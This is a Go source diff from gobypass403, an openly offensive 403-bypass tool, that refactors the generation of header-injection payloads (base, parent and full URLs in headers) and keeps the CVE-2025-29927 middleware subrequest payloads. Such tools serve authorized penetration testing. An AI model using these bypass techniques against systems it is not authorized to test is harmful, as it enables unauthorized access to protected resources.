@@ -8,6 +8,9 @@ import (
 	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
 )
 
+// MaxURLHeaderLevel is the highest (and default) headers_url variation level
+const MaxURLHeaderLevel = 3
+
 /*
 GenerateHeadersURLPayloads generates payloads by injecting various URL components
 (base path, parent paths, full URLs) into different headers.
@@ -35,6 +38,14 @@ For each header name, it creates multiple payload variations:
 
 The original URL's method, scheme, and host are preserved in the base structure,
 while the RawURI and Headers fields are manipulated according to the variations above.
+
+The URL header level (-url-header-level) limits how many variations are generated:
+  - Level 1: only variation 1 (and 3).
+  - Level 2: adds the parent path values of variation 2.
+  - Level 3 (default): adds the full URLs constructed with parent paths.
+
+Jobs are deduplicated on (header, value), so short paths (e.g. "/") don't emit
+the same header payload twice.
 */
 func (pg *PayloadGenerator) GenerateHeadersURLPayloads(targetURL string, bypassModule string) []BypassPayload {
 	var allJobs []BypassPayload
@@ -45,7 +56,7 @@ func (pg *PayloadGenerator) GenerateHeadersURLPayloads(targetURL string, bypassM
 		return allJobs
 	}
 
-	headerURLs, err := ReadPayloadsFromFile("header_urls.lst")
+	headerURLs, err := pg.readModulePayloads("header_urls.lst")
 	if err != nil {
 		GB403Logger.Error().Msgf("Failed to read header URLs: %v", err)
 		return allJobs
@@ -77,101 +88,75 @@ func (pg *PayloadGenerator) GenerateHeadersURLPayloads(targetURL string, bypassM
 		BypassModule: bypassModule,
 	}
 
-	// Add special middleware subrequest payloads for CVE-2025-29927
-	allJobs = append(allJobs, generateMiddlewareSubrequestPayloads(baseJob, fullPathWithQuery)...)
+	level := pg.urlHeaderLevel
+	if level <= 0 || level > MaxURLHeaderLevel {
+		level = MaxURLHeaderLevel
+	}
+
+	// Track (header, value) pairs already emitted
+	seen := make(map[Headers]struct{})
+	addJob := func(rawURI, header, value string) {
+		h := Headers{Header: header, Value: value}
+		if _, ok := seen[h]; ok {
+			return
+		}
+		seen[h] = struct{}{}
 
-	for _, headerURL := range headerURLs {
-		// First variant: base_path in header (don't add query to header)
 		job := baseJob
-		job.RawURI = "/"
-		job.Headers = []Headers{{
-			Header: headerURL,
-			Value:  basePath,
-		}}
+		job.RawURI = rawURI
+		job.Headers = []Headers{h}
 		job.PayloadToken = GeneratePayloadToken(job)
 		allJobs = append(allJobs, job)
+	}
+
+	// Add special middleware subrequest payloads for CVE-2025-29927
+	for _, job := range generateMiddlewareSubrequestPayloads(baseJob, fullPathWithQuery) {
+		seen[job.Headers[0]] = struct{}{}
+		allJobs = append(allJobs, job)
+	}
+
+	for _, headerURL := range headerURLs {
+		// First variant: base_path in header (don't add query to header)
+		addJob("/", headerURL, basePath)
 
 		// Optional: Add variant with query in header value
 		if query != "" {
-			job := baseJob
-			job.RawURI = "/"
-			job.Headers = []Headers{{
-				Header: headerURL,
-				Value:  basePath + query,
-			}}
-			job.PayloadToken = GeneratePayloadToken(job)
-			allJobs = append(allJobs, job)
+			addJob("/", headerURL, basePath+query)
 		}
 
 		// Second variant: full target URL in header (targetURL already includes query)
 		if strings.Contains(strings.ToLower(headerURL), "url") ||
 			strings.Contains(strings.ToLower(headerURL), "request") ||
 			strings.Contains(strings.ToLower(headerURL), "file") {
-			job := baseJob
-			job.RawURI = "/"
-			job.Headers = []Headers{{
-				Header: headerURL,
-				Value:  targetURL,
-			}}
-			job.PayloadToken = GeneratePayloadToken(job)
-			allJobs = append(allJobs, job)
+			addJob("/", headerURL, targetURL)
+		}
+
+		if level < 2 {
+			continue
 		}
 
 		// Parent paths variants
 		parts := strings.Split(strings.Trim(basePath, "/"), "/")
 		for i := len(parts) - 1; i >= 0; i-- {
 			parentPath := "/" + strings.Join(parts[:i], "/")
-			if parentPath == "/" {
-				parentPath = "/"
-			}
 
 			// Parent path in header, without query in header but with query in RawURI
-			job := baseJob
-			job.RawURI = fullPathWithQuery
-			job.Headers = []Headers{{
-				Header: headerURL,
-				Value:  parentPath,
-			}}
-			job.PayloadToken = GeneratePayloadToken(job)
-			allJobs = append(allJobs, job)
+			addJob(fullPathWithQuery, headerURL, parentPath)
 
 			// Optional: Parent path + query in header
 			if query != "" {
-				job := baseJob
-				job.RawURI = fullPathWithQuery
-				job.Headers = []Headers{{
-					Header: headerURL,
-					Value:  parentPath + query,
-				}}
-				job.PayloadToken = GeneratePayloadToken(job)
-				allJobs = append(allJobs, job)
+				addJob(fullPathWithQuery, headerURL, parentPath+query)
 			}
 
 			// Full URL with parent path in header
-			if strings.Contains(strings.ToLower(headerURL), "url") ||
-				strings.Contains(strings.ToLower(headerURL), "refer") {
+			if level >= 3 && (strings.Contains(strings.ToLower(headerURL), "url") ||
+				strings.Contains(strings.ToLower(headerURL), "refer")) {
 				// Without query in header
-				fullURL := fmt.Sprintf("%s://%s%s", parsedURL.Scheme, parsedURL.Host, parentPath)
-				job := baseJob
-				job.RawURI = fullPathWithQuery
-				job.Headers = []Headers{{
-					Header: headerURL,
-					Value:  fullURL,
-				}}
-				job.PayloadToken = GeneratePayloadToken(job)
-				allJobs = append(allJobs, job)
+				addJob(fullPathWithQuery, headerURL, fmt.Sprintf("%s://%s%s", parsedURL.Scheme, parsedURL.Host, parentPath))
 
 				// With query in header
 				if query != "" {
-					fullURLWithQuery := fmt.Sprintf("%s://%s%s%s", parsedURL.Scheme, parsedURL.Host, parentPath, query)
-					job := baseJob
-					job.RawURI = fullPathWithQuery
-					job.Headers = []Headers{{
-						Header: headerURL,
-						Value:  fullURLWithQuery,
-					}}
-					job.PayloadToken = GeneratePayloadToken(job)
-					allJobs = append(allJobs, job)
+					addJob(fullPathWithQuery, headerURL, fmt.Sprintf("%s://%s%s%s", parsedURL.Scheme, parsedURL.Host, parentPath, query))
 				}
 			}
 		}